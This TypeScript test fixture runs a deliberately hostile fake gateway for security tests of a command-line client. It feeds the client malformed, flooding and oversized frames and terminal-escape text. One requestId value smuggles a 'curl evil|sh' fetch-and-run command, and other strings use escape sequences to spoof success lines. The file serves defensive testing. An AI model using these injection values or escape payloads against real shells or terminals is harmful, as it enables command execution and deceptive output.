/**
 * A gateway that misbehaves on purpose, for the hostile-gateway suites (docs/security.md): the fake gateway
 * (`fake-gateway.ts`) with one scenario's hooks and faults. It records every frame it receives, so a test can
 * assert that no secret arrived.
 *
 * ```ts
 * const gw = await startHostileGateway('endless-paging')
 * // run clawlink against gw.url with --token-file holding gw.token; expect RESPONSE_TOO_LARGE in time
 * expect(gw.received().join('\n')).not.toContain(secret)
 * ```
 */
import { startFakeGateway } from './fake-gateway.js'
import type { Conn, FakeCronJob, FakeGateway, FakeGatewayOptions, FakeRequest } from './fake-types.js'
import { errorFrame } from './fake-types.js'
import { type RelayRecord, relayTo } from './hostile-relay.js'

export type { RelayRecord } from './hostile-relay.js'

/** A line a gateway could try to make look like our own success report. */
export const FAKE_SUCCESS = '✓ run succeeded'
/** Gateway text with OSC (retitle), BEL, CSI (clear screen), C1 CSI and NEL, a fake line and a bidi override. */
export const EVIL_TEXT = `ok\u001b]0;owned\u0007\u001b[2J\u009b1;1H\u0085\n${FAKE_SUCCESS}\r${FAKE_SUCCESS}\u202e`
/** A close reason that fits the 123-byte limit and still carries ESC, BEL and C1. */
export const EVIL_REASON = `\u001b[2J\u0007bye\u009b31m\n${FAKE_SUCCESS}`
/** A pairing requestId that would run a command if pasted into a shell unquoted. */
export const EVIL_REQUEST_ID = 'r1"; curl evil|sh'
/** A job id with control characters. */
export const EVIL_ID = 'job-\u001b[31m-1\u0007'
/** Ids of the jobs of the `hostile-text` scenario. */
export const HOSTILE_JOBS = { evilName: 'evil-name', refused: 'refused', evilId: EVIL_ID } as const

/** The ways this gateway misbehaves; `expected` outcomes live in the suites that use it. */
export const HOSTILE_SCENARIOS = [
  'garbage-before-hello',
  'binary-before-hello',
  'oversized-before-hello',
  'flood-before-hello',
  'stall-before-challenge',
  'stall-after-challenge',
  'close-reason-escapes',
  'error-escapes',
  'evil-request-id',
  'starting-forever',
  'hello-protocol-99',
  'huge-tick-interval',
  'garbage-after-hello',
  'binary-after-hello',
  'oversized-after-hello',
  'flood-after-hello',
  'unknown-response-ids',
  'stall-after-hello',
  'close-after-hello-escapes',
  'hostile-text',
  'endless-paging',
  'bad-dates',
  'relay',
] as const
export type HostileScenario = (typeof HOSTILE_SCENARIOS)[number]

/** Options of {@link startHostileGateway}. */
export type HostileGatewayOptions = {
  /** The real gateway the `relay` scenario replays to (docs/protocol.md §5.6). */
  upstream?: string
  /** The token the hostile gateway's handshake accepts. @default a fixed test token */
  token?: string
}

/** A running hostile gateway. */
export type HostileGateway = {
  readonly url: string
  readonly port: number
  readonly scenario: HostileScenario
  /** The shared token its (otherwise ordinary) handshake accepts. */
  readonly token: string
  /** The fake underneath, for its counters and jobs. */
  readonly fake: FakeGateway
  /** Sockets accepted so far. */
  readonly connectionCount: number
  /** The text of every frame received, in order (binary frames as ''). */
  received(): string[]
  /** The relay scenario's records, one per relayed socket. */
  readonly relayed: RelayRecord[]
  close(): Promise<void>
}

const MiB = 1024 * 1024
const isHello = (f: Record<string, unknown>): boolean =>
  f.type === 'res' && (f.payload as { type?: unknown } | undefined)?.type === 'hello-ok'

function res(id: string, payload: unknown): Record<string, unknown> {
  return { type: 'res', id, ok: true, payload }
}

function rawSend(conn: Conn, data: string | Buffer, binary = false): void {
  if (conn.ws.readyState === conn.ws.OPEN) conn.ws.send(data, { binary })
}

/** Before the challenge: frames that are not frames, then the ordinary handshake. */
function garbage(conn: Conn): boolean {
  for (const text of [
    `not json ${EVIL_TEXT}`,
    '[1,2,3]',
    '{"type":"res","id":"zzz","ok":true,"payload":{"type":"hello-ok","protocol":4}}',
    '{"type":"mystery"}',
    '"a string"',
  ])
    rawSend(conn, text)
  return false
}

/** An answer on a post-hello request that is neither late nor right, per scenario. */
type RequestScript = (
  conn: Conn,
  req: FakeRequest,
  send: (f: Record<string, unknown> | string) => void,
) => boolean

const onList =
  (script: RequestScript): RequestScript =>
  (conn, req, send) =>
    req.method === 'cron.list' ? script(conn, req, send) : false

/** Jobs of `hostile-text`: control characters in names, schedules, summaries and ids. */
function hostileJobs(): Array<Partial<FakeCronJob> & { name: string }> {
  return [
    {
      id: HOSTILE_JOBS.evilName,
      name: EVIL_TEXT,
      schedule: { kind: 'cron', expr: EVIL_TEXT, tz: EVIL_TEXT },
      payload: { kind: 'systemEvent', text: EVIL_TEXT },
    },
    { id: HOSTILE_JOBS.refused, name: 'refused' },
    { id: EVIL_ID, name: 'evil-id' },
  ]
}

function hostileRuns(jobId: string): Array<Record<string, unknown>> {
  return [
    { ts: Date.now(), jobId, action: 'finished', status: 'ok', summary: EVIL_TEXT, runId: EVIL_ID },
    { ts: Date.now(), jobId, action: 'finished', status: EVIL_TEXT, error: EVIL_TEXT, runAtMs: Date.now() },
  ]
}

/** A page of 200 large jobs that always says there is more (docs/protocol.md §7.1 `hasMore`). */
function endlessPage(req: FakeRequest): Record<string, unknown> {
  const offset = typeof req.params.offset === 'number' ? req.params.offset : 0
  const jobs = Array.from({ length: 200 }, (_, i) => ({
    id: `endless-${offset + i}`,
    name: `endless-${offset + i}-${'x'.repeat(2000)}`,
    enabled: true,
    schedule: { kind: 'every', everyMs: 60_000 },
    payload: { kind: 'systemEvent', text: 'y'.repeat(2000) },
    state: {},
  }))
  return { jobs, total: 1e9, offset, limit: 200, hasMore: true, nextOffset: offset + 200 }
}

const badDates: RequestScript = (_conn, req, send) => {
  const huge = { nextRunAtMs: 1e20, lastRunAtMs: -1e20, runningAtMs: 1e20 }
  if (req.method === 'cron.list') {
    const job = {
      id: 'bad-dates',
      name: 'bad-dates',
      enabled: true,
      schedule: { kind: 'at', atMs: 1e20 },
      payload: { kind: 'systemEvent', text: 'x' },
      createdAtMs: -1e20,
      updatedAtMs: 1e20,
      state: huge,
    }
    send(res(req.id, { jobs: [job], total: 1, offset: 0, limit: 200, hasMore: false, nextOffset: null }))
    return true
  }
  if (req.method === 'cron.runs') {
    const entries = [1e20, -1e20, Number.MAX_VALUE].map((t, i) => ({
      ts: t,
      runAtMs: t,
      jobId: 'bad-dates',
      action: 'finished',
      status: 'ok',
      durationMs: t,
      nextRunAtMs: t,
      runId: `bad-${i}`,
    }))
    send(res(req.id, { entries, total: 3, offset: 0, limit: 200, hasMore: false, nextOffset: null }))
    return true
  }
  if (req.method === 'cron.status') {
    send(res(req.id, { enabled: true, jobs: 1, nextWakeAtMs: 1e20, storePath: '/x' }))
    return true
  }
  return false
}

const hostileText: RequestScript = (_conn, req, send) => {
  const id = String(req.params.id ?? req.params.jobId ?? '')
  if (req.method === 'cron.run' && id === HOSTILE_JOBS.refused) {
    send(errorFrame(req.id, { code: 'INVALID_REQUEST', message: EVIL_TEXT, details: { code: EVIL_TEXT } }))
    return true
  }
  if (req.method === 'cron.runs') {
    send(res(req.id, { entries: hostileRuns(id), total: 2, offset: 0, limit: 50, hasMore: false }))
    return true
  }
  return false
}

/** The fake's options (faults and hooks) that make up each scenario, except `relay`. */
function scenarioOptions(scenario: HostileScenario): FakeGatewayOptions {
  const hooks: NonNullable<FakeGatewayOptions['hooks']> = {}
  switch (scenario) {
    case 'garbage-before-hello':
      hooks.onConnection = garbage
      break
    case 'binary-before-hello':
      hooks.onConnection = (conn) => {
        for (let i = 0; i < 5; i++) rawSend(conn, Buffer.from([0x1b, 0x5b, 0x32, 0x4a, 0x07, 0x9b, i]), true)
        return false
      }
      break
    case 'oversized-before-hello':
      hooks.onConnection = (conn) => {
        rawSend(conn, `{"type":"event","event":"x","payload":"${'x'.repeat(2 * MiB)}"}`)
        return false
      }
      break
    case 'flood-before-hello':
      hooks.onConnection = (conn) => {
        const junk = `{"type":"event","event":"flood","payload":"${'f'.repeat(200)}"}`
        for (let i = 0; i < 20_000; i++) rawSend(conn, junk)
        return false
      }
      break
    case 'stall-before-challenge':
      return { fault: { kind: 'no-challenge' } }
    case 'stall-after-challenge':
      return { fault: { kind: 'silence-after-challenge' } }
    case 'close-reason-escapes':
      return {
        fault: {
          kind: 'connect-error',
          error: { code: 'INVALID_REQUEST', message: EVIL_REASON },
          closeCode: 4008,
          closeReason: EVIL_REASON,
          sendResponse: false,
        },
      }
    case 'error-escapes':
      return {
        fault: {
          kind: 'connect-error',
          error: {
            code: 'INVALID_REQUEST',
            message: EVIL_TEXT,
            details: { code: EVIL_TEXT, reason: EVIL_TEXT },
          },
          closeReason: EVIL_REASON,
        },
      }
    case 'evil-request-id':
      return {
        fault: {
          kind: 'connect-error',
          error: {
            code: 'NOT_PAIRED',
            message: `pairing required: ${EVIL_TEXT}`,
            details: { code: 'PAIRING_REQUIRED', requestId: EVIL_REQUEST_ID, reason: 'not-paired' },
          },
          closeReason: `pairing required (requestId: ${EVIL_REQUEST_ID})`,
        },
      }
    case 'starting-forever':
      return { fault: { kind: 'gateway-starting', retryAfterMs: 50 } }
    case 'hello-protocol-99':
    case 'huge-tick-interval':
      hooks.rewriteOut = (frame) => {
        if (!isHello(frame)) return frame
        const payload = frame.payload as Record<string, unknown> & { policy: Record<string, unknown> }
        if (scenario === 'hello-protocol-99') payload.protocol = 99
        else payload.policy.tickIntervalMs = 2 ** 40
        return frame
      }
      break
    case 'garbage-after-hello':
    case 'binary-after-hello':
      hooks.onRequest = (conn, req) => {
        if (scenario === 'garbage-after-hello')
          for (const t of [`{"type":"res","id":"${req.id}"`, '[]', `${EVIL_TEXT}`]) rawSend(conn, t)
        else rawSend(conn, Buffer.from(EVIL_TEXT), true)
        return false
      }
      break
    case 'oversized-after-hello':
      hooks.rewriteOut = (frame) => {
        if (isHello(frame)) (frame.payload as { policy: Record<string, unknown> }).policy.maxPayload = 2 ** 40
        return frame
      }
      hooks.onRequest = onList((conn, req) => {
        rawSend(conn, JSON.stringify(res(req.id, { jobs: [], pad: 'x'.repeat(40 * MiB) })))
        return true
      })
      break
    case 'flood-after-hello':
      hooks.onRequest = onList((conn) => {
        const event = JSON.stringify({ type: 'event', event: 'presence', payload: { pad: 'p'.repeat(1000) } })
        for (let i = 0; i < 20_000; i++) rawSend(conn, event)
        return false
      })
      break
    case 'unknown-response-ids':
      hooks.onRequest = (_conn, req, send) => {
        for (const id of [`${req.id}-other`, '', 'x'.repeat(1000)]) send(res(id, { jobs: [] }))
        return true
      }
      break
    case 'stall-after-hello':
      hooks.onRequest = () => true
      break
    case 'close-after-hello-escapes':
      hooks.onRequest = (conn) => {
        conn.ws.close(4001, EVIL_REASON)
        return true
      }
      break
    case 'hostile-text':
      hooks.onRequest = hostileText
      return { hooks, jobs: hostileJobs() }
    case 'endless-paging':
      hooks.onRequest = onList((_conn, req, send) => {
        send(res(req.id, endlessPage(req)))
        return true
      })
      break
    case 'bad-dates':
      hooks.onRequest = badDates
      return { hooks, jobs: [{ id: 'bad-dates', name: 'bad-dates', nextRunAtMs: 1e20 }] }
    case 'relay':
      break
  }
  return { hooks, jobs: [{ id: 'nightly', name: 'nightly' }] }
}

/** Starts a hostile gateway on 127.0.0.1 for one scenario. */
export async function startHostileGateway(
  scenario: HostileScenario,
  options: HostileGatewayOptions = {},
): Promise<HostileGateway> {
  const relayed: RelayRecord[] = []
  if (scenario === 'relay' && !options.upstream) throw new Error('the relay scenario needs options.upstream')
  const token = options.token ?? 'hostile-shared-token'
  const fakeOptions: FakeGatewayOptions =
    scenario === 'relay' ? { hooks: relayTo(options.upstream as string, relayed) } : scenarioOptions(scenario)
  const fake = await startFakeGateway({ flavor: '9.6', token, ...fakeOptions })
  return {
    url: fake.url,
    port: fake.port,
    scenario,
    token,
    fake,
    relayed,
    get connectionCount() {
      return fake.connectionCount
    },
    received: () => fake.frames.filter((f) => f.direction === 'in').map((f) => f.text),
    close: () => fake.close(),
  }
}

/**
 * What in `bytes` could drive a terminal: ESC, BEL, CR, any other C0 control except tab and LF, DEL, C1 code
 * points (as UTF-8 or as raw 8-bit bytes, which also makes the text invalid UTF-8), line separators and bidi
 * overrides. Returns one description per finding (empty when clean).
 */
export function terminalControls(bytes: Buffer): string[] {
  const found: string[] = []
  let text: string
  try {
    text = new TextDecoder('utf-8', { fatal: true }).decode(bytes)
  } catch {
    return ['not valid UTF-8 (a raw 8-bit C1 byte?)']
  }
  for (const m of text.matchAll(
    /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/g,
  ))
    found.push(`U+${m[0].charCodeAt(0).toString(16).padStart(4, '0')} at ${m.index}`)
  return found
}
